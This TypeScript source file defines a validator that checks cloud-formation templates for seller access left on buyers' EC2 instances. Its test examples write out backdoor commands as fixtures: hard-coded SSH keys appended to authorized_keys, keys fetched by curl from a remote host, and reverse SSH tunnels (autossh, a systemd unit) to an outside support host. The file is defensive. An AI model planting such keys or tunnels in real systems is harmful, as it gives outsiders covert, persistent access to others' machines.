import {defineValidator} from '../../src/contract.ts';
import {hostRunning} from '../../src/examples.ts';
import {pages} from '../../src/limits.ts';

const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${'Larkspur'.repeat(5)}`;

export const noSellerAccess = defineValidator({
	id: 'template/no-seller-access',
	policy: 'access.no-seller-access',
	severity: 'error',
	about: 'The commands of an instance let nobody in but the buyer.',
	why: 'A key or a tunnel that is written into the template is on every instance that it launches. Keys that a parameter or instance metadata gives are the buyer’s. What hangs on a condition, and keys that are fetched, are reported as warnings.',
	source: pages.policy,
	reads: ['templates'],
	messages: {
		key: {
			message: '{script} adds a key that is written into the template to an account.',
			help: 'Take it out: EC2 adds the key pair that the buyer names in KeyName. If the buyer shall add a key, take it by a parameter without a default.',
		},
		fetched: {
			message: '{script} adds the keys of {source} to an account.',
			help: 'Take it out: EC2 adds the key pair that the buyer names in KeyName. If the buyer shall add a key, take it by a parameter without a default.',
		},
		tunnel: {
			message: '{script} starts {agent}, which lets {bound} into the instance.',
			help: 'Take it out, or leave it off until the buyer switches it on, and say in the usage instructions how.',
		},
	},
	examples: [
		{
			name: 'a key in user data',
			files: {'template.yaml': hostRunning(`echo '${key}' >> /home/ec2-user/.ssh/authorized_keys`)},
			expect: [{message: 'key', at: key, subject: 'Host'}],
		},
		{
			name: 'a key in a file of AWS::CloudFormation::Init',
			files: {
				'template.yaml': `Resources:\n  Host:\n    Type: AWS::EC2::Instance\n    Metadata:\n      AWS::CloudFormation::Init:\n        config:\n          files:\n            /root/.ssh/authorized_keys:\n              content: ${key}\n`,
			},
			expect: [{message: 'key', at: key}],
		},
		{
			name: 'a key in cloud-config',
			files: {'template.yaml': hostRunning('').replace('#!/bin/bash\n', `#cloud-config\n          ssh_authorized_keys:\n            - ${key}\n`)},
			expect: [{message: 'key', at: key}],
		},
		{
			name: 'a key pair of a public key that is written into the template',
			files: {
				'template.yaml': `Resources:\n  Pair:\n    Type: AWS::EC2::KeyPair\n    Properties: {KeyName: larkspur, PublicKeyMaterial: ${key}}\n  Host:\n    Type: AWS::EC2::Instance\n    Properties: {KeyName: !Ref Pair}\n`,
			},
			expect: [{message: 'key', at: key, subject: 'Pair'}],
		},
		{
			name: 'a key pair of a public key that the buyer gives',
			files: {
				'template.yaml':
					'Parameters:\n  PublicKey: {Type: String}\nResources:\n  Pair:\n    Type: AWS::EC2::KeyPair\n    Properties: {KeyName: larkspur, PublicKeyMaterial: !Ref PublicKey}\n  Host:\n    Type: AWS::EC2::Instance\n    Properties: {KeyName: !Ref Pair}\n',
			},
			expect: [],
		},
		{
			name: 'a tunnel',
			files: {'template.yaml': hostRunning('autossh -M 0 -N -R 2222:localhost:22 tunnel@support.larkspur-queue.com')},
			expect: [{message: 'tunnel', at: 'tunnel@support.larkspur-queue.com', subject: 'Host'}],
		},
		{
			name: 'a tunnel in a unit that user data writes',
			files: {
				'template.yaml': hostRunning(
					"cat > /etc/systemd/system/link.service <<'UNIT'\n[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 link@support.larkspur-queue.com\nUNIT\nsystemctl enable --now link",
				),
			},
			expect: [{message: 'tunnel', at: 'link@support.larkspur-queue.com', subject: 'Host'}],
		},
		{
			name: 'a unit that nothing in the template starts, as a warning: the image may',
			files: {
				'template.yaml': hostRunning(
					"cat > /etc/systemd/system/link.service <<'UNIT'\n[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 link@support.larkspur-queue.com\nUNIT",
				),
			},
			expect: [{message: 'tunnel', at: 'link@support.larkspur-queue.com'}],
		},
		{
			name: 'keys from a host',
			files: {'template.yaml': hostRunning('curl -fsS https://keys.larkspur-queue.com/support.pub >> /root/.ssh/authorized_keys')},
			expect: [{message: 'fetched', at: 'https://keys.larkspur-queue.com/support.pub'}],
		},
		{
			name: 'a key under a condition',
			files: {'template.yaml': hostRunning(`if [ '\${Support}' = on ]; then\n  echo '${key}' >> /root/.ssh/authorized_keys\nfi`)},
			expect: [{message: 'key', at: key}],
		},
		{name: 'a key that a parameter gives', files: {'template.yaml': hostRunning('echo "${PublicKey}" >> /root/.ssh/authorized_keys')}, expect: []},
		{
			name: "EC2's own key",
			files: {'template.yaml': hostRunning('curl http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key >> /root/.ssh/authorized_keys')},
			expect: [],
		},
		{name: 'a tunnel to a host that the buyer gives', files: {'template.yaml': hostRunning('ssh -N -R 2222:localhost:22 "tunnel@${Bastion}"')}, expect: []},
		{name: 'a key in a comment', files: {'template.yaml': hostRunning(`# echo '${key}' >> /root/.ssh/authorized_keys`)}, expect: []},
	],
	*check({templates}) {
		for (const {addedAccess, remoteAccess} of templates.map(({bootstrap}) => bootstrap)) {
			for (const {job, how, source, sure, place} of addedAccess) {
				const base = {place, subject: job.by, ...(sure && how === 'key' ? {} : {severity: 'warning' as const})};
				yield how === 'key' ? {...base, message: 'key', data: {script: job.name}} : {...base, message: 'fetched', data: {script: job.name, source}};
			}
			for (const {job, agent, bound, keyed, kind, sure, place} of remoteAccess) {
				if (bound === undefined && !keyed) continue;
				const isSure = sure && kind === 'tunnel' && bound !== undefined;
				const data = {script: job.name, agent, bound: bound ?? 'whoever holds the key that is written there'};
				yield {message: 'tunnel', place, subject: job.by, ...(isSure ? {} : {severity: 'warning' as const}), data};
			}
		}
	},
});
